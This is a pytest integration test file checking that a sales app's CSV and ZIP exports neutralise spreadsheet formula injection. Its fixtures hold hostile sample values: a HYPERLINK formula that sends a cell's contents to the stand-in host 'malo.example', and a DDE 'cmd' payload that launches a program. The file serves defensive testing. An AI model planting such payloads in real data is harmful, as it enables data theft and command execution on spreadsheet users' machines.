"""CSV injection: every trigger character neutralised by PostgreSQL's COPY, and no export of any type (the ZIP
included) hands a spreadsheet a formula that a customer typed."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from fastapi.testclient import TestClient

from agente_vendedor.ops.exports.formula_cells import FORMULA_TRIGGERS
from tests.conftest import STAFF

pytestmark = pytest.mark.integration

FORMULA = '=HYPERLINK("http://malo.example/?x="&A1,"Ver factura")'


def _sql_text(value: str) -> str:
    return "'" + value.replace("'", "''") + "'"


def _copy_rows(query: str) -> list[dict[str, str]]:
    from agente_vendedor.db.engine import get_engine
    from agente_vendedor.ops.exports.csv_copy import copy_csv

    connection = get_engine().raw_connection()
    try:
        out = io.BytesIO()
        copy_csv(connection.cursor(), query, out)
    finally:
        connection.rollback()
        connection.close()
    return list(csv.DictReader(io.StringIO(out.getvalue().decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS, ids=["igual", "mas", "menos", "arroba", "tab", "cr"])
def test_a_text_cell_starting_with_a_trigger_gets_a_quote_in_front(database_url: str, trigger: str) -> None:
    value = f"{trigger}1+1"
    [row] = _copy_rows(f"SELECT {_sql_text(value)} AS texto, {_sql_text('x' + value)} AS interior")
    assert row["texto"] == "'" + value
    assert row["interior"] == "x" + value  # only the first character matters


def test_numbers_stay_numbers_and_plain_text_nulls_and_arrays_are_untouched(database_url: str) -> None:
    [row] = _copy_rows(
        "SELECT -5 AS entero, -2.5::numeric AS decimal, 38000::bigint AS precio, true AS activo, "
        "'Casco, tipo I' AS nombre, ' =1' AS espacio, NULL::text AS vacio, '' AS blanco, "
        "ARRAY['-a','b'] AS lista, '2026-11-25'::date AS dia"
    )
    assert row == {
        "entero": "-5",
        "decimal": "-2.5",
        "precio": "38000",
        "activo": "t",
        "nombre": "Casco, tipo I",
        "espacio": " =1",
        "vacio": "",
        "blanco": "",
        "lista": "{-a,b}",
        "dia": "2026-11-25",
    }


def test_an_array_or_enum_rendered_as_text_is_neutralised(database_url: str) -> None:
    [row] = _copy_rows("SELECT array_to_string(ARRAY['@SUM(A1)', 'b'], '|') AS productos")
    assert row["productos"] == "'@SUM(A1)|b"


@pytest.fixture
def formula_data() -> None:
    """A customer, a product, a sale and chat messages whose text starts with each trigger."""
    from agente_vendedor.commerce.sales import customer_snapshot
    from agente_vendedor.db.engine import session_scope
    from agente_vendedor.db.models import ConversationMessage, Customer, Product, Sale, SaleLine

    with session_scope() as session:
        product = Product(
            sku="-SKU-1",
            nombre="+SUMA(1;2)",
            descripcion="@cmd|' /C calc'!A0",
            categoria="=Cabeza",
            precio=38000,
            stock=5,
            marca="\tMarca",
            sinonimos=["-pava"],
        )
        customer = Customer(
            cedula="1234567",
            nombre=FORMULA,
            telefono="3001234567",
            email="=juan@example.com",
            direccion="-Cra 1 # 2-3",
            ciudad="\rCali",
        )
        session.add_all([product, customer])
        session.flush()
        line = SaleLine(
            producto_id=product.id,
            sku=product.sku,
            nombre=product.nombre,
            categoria=product.categoria,
            cantidad=2,
            precio_unitario=38000,
            subtotal=76000,
        )
        session.add(
            Sale(
                id="v-formula",
                cliente_id=customer.id,
                total=76000,
                canal="chat",
                chat_id="-chat",
                lineas=[line],
                cliente_datos=customer_snapshot(customer),
            )
        )
        session.add(
            ConversationMessage(
                chat_id="-chat", rol="cliente", contenido=FORMULA, tipo_mensaje="venta", estado_venta="pendiente",
                productos=["-SKU-1"],
            )
        )  # fmt: skip


def _download(client: TestClient, tipo: str) -> bytes:
    response = client.get(f"/exportar/{tipo}", headers=STAFF)
    assert response.status_code == 200, response.text
    url = urlsplit(response.json()["url"])
    download = client.get(f"{url.path}?{url.query}")
    assert download.status_code == 200
    return download.content


def _cells(data: bytes) -> list[str]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    return [cell for row in rows[1:] for cell in row]


def _assert_no_formula(cells: list[str]) -> None:
    dangerous = [c for c in cells if c[:1] in FORMULA_TRIGGERS and not c.lstrip("-").replace(".", "").isdigit()]
    assert dangerous == []


@pytest.mark.parametrize("tipo", ["inventario", "clientes", "ventas", "conversaciones-rag"])
def test_no_export_type_carries_a_formula(local_exports: Path, formula_data: None, tipo: str) -> None:
    from agente_vendedor.api.app import create_app

    cells = _cells(_download(TestClient(create_app()), tipo))
    _assert_no_formula(cells)
    if tipo in ("clientes", "ventas", "conversaciones-rag"):
        assert "'" + FORMULA in cells  # the customer's name or message, kept whole behind the quote


def test_the_full_report_zip_carries_no_formula(local_exports: Path, formula_data: None) -> None:
    from agente_vendedor.api.app import create_app

    data = _download(TestClient(create_app()), "reporte-completo")
    found: dict[str, Any] = {}
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.endswith(".csv"):
                cells = _cells(archive.read(name))
                _assert_no_formula(cells)
                found[name] = cells
    assert "'" + FORMULA in found["ventas.csv"] and "'=Cabeza" in found["resumen/ventas_por_categoria.csv"]
    assert "'-SKU-1" in found["resumen/productos_top.csv"] and "'+SUMA(1;2)" in found["inventario.csv"]
